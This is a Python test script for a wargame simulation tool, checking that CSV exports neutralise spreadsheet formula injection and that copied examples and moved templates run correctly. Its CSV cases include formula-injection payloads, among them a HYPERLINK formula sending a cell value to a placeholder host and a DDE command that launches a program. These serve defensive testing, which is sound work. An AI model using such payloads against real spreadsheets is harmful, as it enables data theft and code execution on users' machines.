#!/usr/bin/env python3
"""A designer's files (issue 41 case 4, issue 45 item 5).

CSV: a text cell a spreadsheet would run as a formula (it starts with = + -
@, a tab or a carriage return: OWASP's rule) is written as text, a single
quote before it and the cell quoted, in `fray adbg sweep --csv` (the
baseline row carries the scenario's own value) and in `fray merge --csv`
(a shard's values); a plain number such as -3 stays bare. The expected
cells are computed here from the rule, not taken from fray.

Copies: the shipped examples copied to empty folders, with a copy of the
fray binary that has no data folder beside it (nothing installed), run
there and say what they say in place: adbg simulate (and, with --exact,
fray adbg odds, exact: minutes under ASan, so `make test` runs that part
from the Release build), a chits combat alone in its folder (its mix by
name), forces starting a game; a scenario naming the CRT by its name; a
file beside the scenario wins over fray's own table. The templates of
`fray scenario new` work when moved to another folder.

usage: design_files.py FRAY EXAMPLES_DIR [--exact]"""
import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile

FRAY, EXAMPLES = (os.path.abspath(a) for a in sys.argv[1:3])
EXACT = "--exact" in sys.argv[3:]
failures = []


def check(cond, what):
    if not cond:
        failures.append(what)
        print("FAIL:", what, file=sys.stderr)
    return cond


def run(fray, *args, cwd=None):
    return subprocess.run([fray, *args], capture_output=True, text=True, cwd=cwd, timeout=1200)


# ---- CSV cells a spreadsheet would run ----

def formula_like(cell):
    """OWASP's rule, but a plain decimal number is a number, not a formula."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell)


def check_csv(text, values, what):
    """The knob column of each row is the value neutralised when it must be;
    the raw text has every such cell quoted with the quote inside."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    got = [r[1] for r in rows[1:]]
    want = [("'" + v) if formula_like(v) else v for v in values]
    check(got == want, f"{what}: knob cells {got!r}, expected {want!r}")
    for v in values:
        if formula_like(v):
            quoted = '"\'' + v.replace('"', '""') + '"'
            check(quoted in text, f"{what}: {v!r} is not written as the quoted text {quoted!r}")
    # no cell a spreadsheet reads would run
    for row in rows:
        for cell in row:
            check(not formula_like(cell), f"{what}: a cell a spreadsheet would run: {cell!r}")


def csv_cases(tmp):
    src = os.path.join(EXAMPLES, "adbg", "sandusky-1782.yaml")
    with open(src, encoding="utf-8") as f:
        text = f.read()
    name = '=HYPERLINK("http://example.invalid/?x="&A1,"odds")'
    text = re.sub(r"(?m)^battle: .*$", "battle: '" + name.replace("'", "''") + "'", text)
    crt = os.path.abspath(os.path.join(EXAMPLES, "..", "data", "adbg", "example-melee-crt.yaml"))
    text = re.sub(r"(?m)^melee_crt: .*$", "melee_crt: " + crt, text)
    scen = os.path.join(tmp, "formula.yaml")
    with open(scen, "w", encoding="utf-8") as f:
        f.write(text)
    values = ["plain", "-3", "+SUM(1;2)", "@SUM(A1)", "\tTAB", "-2+3+cmd|' /C calc'!A0", "0.5"]
    args = ["adbg", "sweep", scen, "--vary", "battle=" + ",".join(values), "--trials", "20", "--quiet"]
    r = run(FRAY, *args, "--csv")
    if check(r.returncode == 0, f"sweep --csv: exit {r.returncode} {r.stderr}"):
        # the scenario's own battle name is the baseline, added first
        check_csv(r.stdout, [name] + values, "sweep --csv")
    shard = os.path.join(tmp, "formula-shard.json")
    r = run(FRAY, *args, "--shard", "1/1", "--output", shard)
    check(r.returncode == 0, f"sweep --shard: {r.stderr}")
    r = run(FRAY, "merge", "--csv", shard)
    if check(r.returncode == 0, f"merge --csv: exit {r.returncode} {r.stderr}"):
        check_csv(r.stdout, [name] + values, "merge --csv")


# ---- the shipped examples copied ----

def copy_examples(tmp):
    """examples/<ruleset>/*.yaml into tmp/<ruleset>/, and fray into tmp/bin/
    (no ../data nor ../share/fray/data beside it)."""
    for rules in sorted(os.listdir(EXAMPLES)):
        if os.path.isdir(os.path.join(EXAMPLES, rules)):
            os.makedirs(os.path.join(tmp, rules))
            for f in os.listdir(os.path.join(EXAMPLES, rules)):
                if f.endswith(".yaml"):
                    shutil.copy(os.path.join(EXAMPLES, rules, f), os.path.join(tmp, rules))
    os.makedirs(os.path.join(tmp, "bin"))
    fray = os.path.join(tmp, "bin", "fray")
    shutil.copy(FRAY, fray)
    return fray


def copied_examples(tmp):
    fray = copy_examples(tmp)
    adbg = os.path.join(tmp, "adbg")
    for ex in sorted(os.listdir(adbg)):
        here = run(fray, "adbg", "simulate", ex, "--trials", "2000", "--quiet", "--json", cwd=adbg)
        there = run(FRAY, "adbg", "simulate", os.path.join(EXAMPLES, "adbg", ex), "--trials", "2000", "--quiet",
                    "--json")
        if check(here.returncode == 0, f"copied {ex}: simulate: {here.stderr.strip()}"):
            check(here.stdout == there.stdout, f"copied {ex}: simulates otherwise than in place")
        if EXACT:
            here = run(fray, "adbg", "odds", ex, "--json", cwd=adbg)
            there = run(FRAY, "adbg", "odds", os.path.join(EXAMPLES, "adbg", ex), "--json")
            if check(here.returncode == 0, f"copied {ex}: odds: {here.stderr.strip()}"):
                check(here.stdout == there.stdout, f"copied {ex}: odds otherwise than in place")
    # the CRT by the name fray knows; a file beside that is there wins, broken or not
    scen = os.path.join(adbg, "lochry-1781.yaml")
    with open(scen, encoding="utf-8") as f:
        text = f.read()
    named = os.path.join(adbg, "named.yaml")
    with open(named, "w", encoding="utf-8") as f:
        f.write(re.sub(r"(?m)^melee_crt: .*$", "melee_crt: example-melee-crt", text))
    a = run(fray, "adbg", "simulate", "named.yaml", "--trials", "500", "--quiet", "--json", cwd=adbg)
    b = run(fray, "adbg", "simulate", "lochry-1781.yaml", "--trials", "500", "--quiet", "--json", cwd=adbg)
    check(a.returncode == 0 and a.stdout == b.stdout, f"melee_crt: example-melee-crt: {a.stderr.strip()}")
    with open(os.path.join(adbg, "example-melee-crt.yaml"), "w") as f:
        f.write("columns: [oops\n")
    with open(named, "w", encoding="utf-8") as f:
        f.write(re.sub(r"(?m)^melee_crt: .*$", "melee_crt: example-melee-crt.yaml", text))
    r = run(fray, "adbg", "simulate", "named.yaml", "--trials", "50", "--quiet", cwd=adbg)
    check(r.returncode == 2 and "named.yaml:" in r.stderr and "melee CRT" in r.stderr,
          f"a broken CRT beside the scenario is told, not replaced: exit {r.returncode} {r.stderr.strip()}")
    # a chits combat alone in its folder: its mix (sample-mix.yaml) by name
    alone = os.path.join(tmp, "alone")
    os.makedirs(alone)
    shutil.copy(os.path.join(EXAMPLES, "chits", "example-1.yaml"), alone)
    here = run(fray, "chits", "combat", "example-1.yaml", "--json", cwd=alone)
    there = run(FRAY, "chits", "combat", os.path.join(EXAMPLES, "chits", "example-1.yaml"), "--json")
    check(here.returncode == 0 and here.stdout == there.stdout,
          f"a chits combat without its mix beside it: exit {here.returncode} {here.stderr.strip()}")
    # an option naming the table by its name: the same as the shipped file
    melee = ["--attacker", "warrior:3", "--defender", "militia:2", "--terrain", "rough", "--seed", "1", "--json"]
    here = run(fray, "adbg", "melee", "--crt", "example-melee-crt", *melee, cwd=alone)
    there = run(FRAY, "adbg", "melee", "--crt", os.path.join(EXAMPLES, "..", "data", "adbg", "example-melee-crt.yaml"),
                *melee)
    check(here.returncode == 0 and here.stdout == there.stdout, f"--crt example-melee-crt: {here.stderr.strip()}")
    # forces start games where they were copied
    for rules in ("presidio", "bbb", "chits"):
        d = os.path.join(tmp, rules)
        r = run(fray, "table", "new", "game.yaml", "--rules", rules, "--forces", "forces.yaml", "--seed", "1", cwd=d)
        check(r.returncode == 0, f"copied {rules} forces: table new: {r.stderr.strip()}")


# ---- the templates moved ----

def moved_templates(tmp):
    made, moved = os.path.join(tmp, "made"), os.path.join(tmp, "moved")
    os.makedirs(made)
    os.makedirs(moved)
    for kind in ("adbg", "presidio", "bbb", "chits"):
        r = run(FRAY, "scenario", "new", kind, os.path.join(made, kind + ".yaml"))
        check(r.returncode == 0, f"scenario new {kind}: {r.stderr}")
        shutil.move(os.path.join(made, kind + ".yaml"), os.path.join(moved, kind + ".yaml"))
        if kind == "adbg":
            r = run(FRAY, "adbg", "simulate", "adbg.yaml", "--trials", "200", "--quiet", cwd=moved)
        else:
            r = run(FRAY, "table", "new", kind + "-game.yaml", "--rules", kind, "--forces", kind + ".yaml",
                    "--seed", "1", cwd=moved)
        check(r.returncode == 0, f"the {kind} template moved: exit {r.returncode} {r.stderr.strip()}")


with tempfile.TemporaryDirectory() as tmp:
    for part, fn in (("csv", csv_cases), ("copies", copied_examples), ("templates", moved_templates)):
        os.makedirs(os.path.join(tmp, part))
        fn(os.path.join(tmp, part))

if failures:
    print(f"design_files: {len(failures)} checks failed", file=sys.stderr)
    sys.exit(1)
print("design_files: CSV cells as text; copies and templates work anywhere" + (" (exact odds too)" if EXACT else ""))
